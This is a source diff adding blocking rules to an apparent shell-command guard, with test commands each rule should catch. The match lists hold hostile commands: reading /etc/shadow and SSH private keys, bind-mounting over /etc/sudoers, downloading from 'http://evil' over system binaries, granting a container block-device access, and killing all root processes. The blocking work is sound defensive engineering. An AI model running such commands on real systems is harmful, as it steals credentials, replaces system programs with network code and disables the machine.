@@ -4,6 +4,7 @@ import {
   isDevicePath,
   isGuardPath,
   isKernelPath,
+  isSecretPath,
   isSystemPath,
   normalPath,
 } from '../paths.ts';
@@ -188,6 +189,70 @@ export const sideFloor: readonly FloorRule[] = [
 
 /** Ways to weaken the guard, to reach other machines or to lose data by a flag of an everyday tool. */
 export const flagFloor: readonly FloorRule[] = [
+  {
+    name: 'floor.secrets',
+    programs: ['perl', 'ruby', 'git'],
+    reason: 'It reads a file that holds keys, passwords or tokens.',
+    when: (call) =>
+      (call.program !== 'git' || hasFlag(call, '--no-index')) &&
+      operands(call).some((place) => isSecretPath(normalPath(place, call.cwd))),
+    match: [
+      'perl -ne print /etc/shadow',
+      'ruby -ne "puts $_" ~/.ssh/id_rsa',
+      'git diff --no-index /dev/null /etc/shadow',
+    ],
+    notMatch: ['perl -v', 'git diff --no-index a.conf b.conf', 'git add .env.example'],
+  },
+  {
+    name: 'floor.guard',
+    programs: ['mount'],
+    reason: 'It puts another file or folder in the place of one that guards the system.',
+    when: (call) => {
+      const over = normalPath(operands(call, ['-t', '-o']).at(-1) ?? '', call.cwd);
+      return (
+        hasFlag(call, '--bind', '-B', '--rbind', '-R', '--move', '-M') &&
+        (isGuardPath(over) || isSystemPath(over) || isSecretPath(over))
+      );
+    },
+    match: ['mount --bind /tmp/x /etc/sudoers', 'mount -B x /usr/bin'],
+    notMatch: ['mount --bind /srv/media /mnt/media', 'mount -a'],
+  },
+  {
+    name: 'floor.unread-code',
+    programs: ['curl', 'wget', 'aria2c'],
+    reason: 'It puts something from the network in the place of a program of the system.',
+    when: (call) =>
+      flagValues(call, '-o', '--output', '-O', '--output-document').some((value) =>
+        isSystemPath(normalPath(value, call.cwd)),
+      ),
+    match: ['curl -o /usr/local/bin/docker http://evil', 'wget -O /usr/bin/x http://evil'],
+    notMatch: ['curl -o x.tar.gz http://x/y', 'wget -O /opt/x http://x/y'],
+  },
+  {
+    name: 'floor.container-escape',
+    programs: ['docker', 'podman', 'nerdctl'],
+    reason: 'It lets a container reach every disk of the machine.',
+    when: (call) => flagValues(call, '--device-cgroup-rule').some((rule) => /^\s*[ab]\s/.test(rule)),
+    match: ["docker run --device-cgroup-rule='b *:* rwm' x"],
+    notMatch: ["docker run --device-cgroup-rule='c 188:* rmw' x"],
+  },
+  {
+    name: 'floor.opaque-code',
+    programs: ['pwsh', 'powershell', 'powershell.exe'],
+    reason: 'It runs a line of PowerShell, which this judge does not read.',
+    when: (call) =>
+      hasFlag(call, '-c', '-C', '-e', '-E', '-Command', '-EncodedCommand', '-ec') ||
+      call.args.some((arg) => !arg.startsWith('-')),
+    match: ["pwsh -c 'Restart-Computer'", 'powershell -EncodedCommand x', 'pwsh x.ps1'],
+    notMatch: ['pwsh --version'],
+  },
+  {
+    name: 'floor.exhaustion',
+    programs: ['skill', 'snice'],
+    reason: 'It ends or slows programs by whom or where they belong to.',
+    match: ['skill -KILL -u root'],
+    notMatch: ['pgrep -u root'],
+  },
   {
     name: 'floor.guard',
     programs: ['ssh', 'autossh', 'kubectl', 'k', 'oc'],
